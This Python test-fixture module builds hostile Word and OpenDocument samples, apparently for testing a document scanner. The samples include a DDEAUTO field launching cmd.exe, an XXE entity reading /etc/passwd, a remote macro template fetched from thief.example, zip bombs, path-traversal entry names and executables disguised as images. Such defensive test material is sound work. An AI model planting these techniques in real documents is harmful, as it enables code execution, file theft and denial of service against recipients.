"""Word documents and OpenDocument texts that somebody could send to do harm."""

import struct
from collections.abc import Mapping
from io import BytesIO
from typing import Final
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from tests.support.good_files import (
    DOCX,
    ODT,
    content_types,
    docx,
    docx_parts,
    odt,
    odt_content,
    odt_parts,
    relationship,
    relationships,
    word_document,
    zipped,
)
from tests.support.hostile import PROGRAM, Hostile

_MACRO_MAIN: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"


def _part(name: str, content: str | bytes) -> bytes:
    return docx({name: content})


def _related(kind: str, target: str, *, external: bool = False) -> bytes:
    found = relationships(relationship(kind, target, external=external))
    return docx({"word/_rels/document.xml.rels": found})


def _field(instruction: str) -> bytes:
    field = f'<w:p><w:fldSimple w:instr="{instruction}"/></w:p>'
    return docx({"word/document.xml": word_document(field)})


def _field_in_pieces() -> bytes:
    pieces = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in (" D", "DEAU", "TO c:\\x")
    )
    return docx({"word/document.xml": word_document(f"<w:p>{pieces}</w:p>")})


def _odf(inside: str) -> bytes:
    return odt({"content.xml": odt_content(inside)})


def _with_entry(change: Mapping[str, int]) -> bytes:
    """A Word document one of whose entries is described differently."""
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            entry = ZipInfo(name)
            if name == "word/media/image1.png":
                for member, value in change.items():
                    setattr(entry, member, value)
            archive.writestr(entry, content)
    return out.getvalue()


def _encrypted_entry() -> bytes:
    document = bytearray(docx())
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        document[document.index(signature) + place] |= 1
    return bytes(document)


def _twice() -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            archive.writestr(ZipInfo(name), content)
        archive.writestr(ZipInfo("Word/Document.xml"), word_document())
    return out.getvalue()


def _lying_bomb() -> bytes:
    """Says of itself that it unpacks to 1,000 bytes, and unpacks to ten million."""
    zeros = b"\x00" * 10_000_000
    document = docx({"word/media/image2.bmp": zeros})
    return document.replace(struct.pack("<L", len(zeros)), struct.pack("<L", 1000))


def _between() -> bytes:
    """A Word document with something in a gap before its directory."""
    document, hidden = docx(), PROGRAM
    ends = len(document) - 22
    begins = struct.unpack_from("<L", document, ends + 16)[0]
    end = bytearray(document[ends:])
    struct.pack_into("<L", end, 16, begins + len(hidden))
    return document[:begins] + hidden + document[begins:ends] + bytes(end)


def _deep_xml() -> bytes:
    return _part("word/footnotes.xml", "<a>" * 5000 + "</a>" * 5000)


def _entities() -> bytes:
    laughs = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
    return _part("word/footnotes.xml", laughs)


def _foreign_entity() -> bytes:
    thief = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
    return _part("word/footnotes.xml", thief)


DOCUMENTS: Final[Mapping[str, Hostile]] = {
    # Word documents
    "docx-with-a-macro-project": Hostile(DOCX, _part("word/vbaProject.bin", b"x"), "macros"),
    "docm-named-docx": Hostile(
        DOCX, docx({"[Content_Types].xml": content_types(_MACRO_MAIN)}), "macros"
    ),
    "docx-with-activex": Hostile(DOCX, _part("word/activeX/activeX1.xml", "<a/>"), "macros"),
    "docx-with-an-ole-object": Hostile(
        DOCX, _part("word/embeddings/oleObject1.bin", b"x"), "embedded-files"
    ),
    "docx-with-a-workbook": Hostile(
        DOCX, _part("word/embeddings/book.xlsx", zipped({"a.xml": "<a/>"})), "embedded-files"
    ),
    "docx-with-a-remote-template": Hostile(
        DOCX,
        _related("attachedTemplate", "http://thief.example/t.dotm", external=True),
        "external-content",
    ),
    "docx-with-a-remote-picture": Hostile(
        DOCX, _related("image", "http://thief.example/p.png", external=True), "external-content"
    ),
    "docx-with-a-link-to-a-script": Hostile(
        DOCX, _related("hyperlink", "javascript:alert(1)", external=True), "external-content"
    ),
    "docx-with-foreign-html": Hostile(DOCX, _related("aFChunk", "chunk.xml"), "embedded-files"),
    "docx-that-runs-dde": Hostile(DOCX, _field("DDEAUTO c:\\\\cmd.exe"), "external-content"),
    "docx-that-runs-dde-in-pieces": Hostile(DOCX, _field_in_pieces(), "external-content"),
    "docx-with-a-program-inside": Hostile(DOCX, _part("word/media/a.exe", b"x"), "executable"),
    "docx-with-a-program-named-picture": Hostile(
        DOCX, _part("word/media/image2.png", PROGRAM), "executable"
    ),
    "docx-with-an-archive-named-picture": Hostile(
        DOCX, _part("word/media/image2.png", zipped({"a.xml": "<a/>"})), "nested-archive"
    ),
    "docx-that-climbs-out": Hostile(DOCX, _part("word/../../evil.xml", "<a/>"), "unsafe-names"),
    "docx-with-an-absolute-name": Hostile(DOCX, _part("/etc/evil.xml", "<a/>"), "unsafe-names"),
    "docx-with-a-symbolic-link": Hostile(
        DOCX, _with_entry({"external_attr": 0o120777 << 16, "create_system": 3}), "unsafe-names"
    ),
    "docx-with-one-name-twice": Hostile(DOCX, _twice(), "duplicate-names"),
    "docx-with-an-encrypted-part": Hostile(DOCX, _encrypted_entry(), "encrypted"),
    "docx-bomb": Hostile(DOCX, _part("word/media/a.bmp", b"\x00" * 30_000_000), "inflates"),
    "docx-bomb-that-lies": Hostile(DOCX, _lying_bomb(), "inflates"),
    "docx-of-thousands-of-parts": Hostile(
        DOCX, docx({f"word/p{each}.xml": "<a/>" for each in range(2001)}), "too-many-parts"
    ),
    "docx-with-entities": Hostile(DOCX, _entities(), "document-type"),
    "docx-with-a-foreign-entity": Hostile(DOCX, _foreign_entity(), "document-type"),
    "docx-nested-beyond-reason": Hostile(DOCX, _deep_xml(), "too-complex"),
    "docx-with-a-program-behind": Hostile(DOCX, docx() + PROGRAM, "hidden-data"),
    "docx-with-a-program-in-a-gap": Hostile(DOCX, _between(), "hidden-data"),
    "docx-cut-short": Hostile(DOCX, docx()[:-300], "damaged"),
    # OpenDocument texts
    "odt-with-a-macro": Hostile(ODT, odt({"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    "odt-with-an-event-that-runs": Hostile(
        ODT, _odf('<script:event-listener script:language="ooo:script"/>'), "macros"
    ),
    "odt-with-a-remote-picture": Hostile(
        ODT, _odf('<draw:image xlink:href="http://thief.example/p.png"/>'), "external-content"
    ),
    "odt-with-an-ole-object": Hostile(ODT, _odf("<draw:object-ole/>"), "embedded-files"),
    "odt-that-fetches-dde": Hostile(ODT, _odf("<office:dde-source/>"), "external-content"),
    "odt-whose-type-comes-last": Hostile(
        ODT, zipped(dict(reversed(odt_parts().items()))), "wrong-type"
    ),
}
"""Each by its name."""
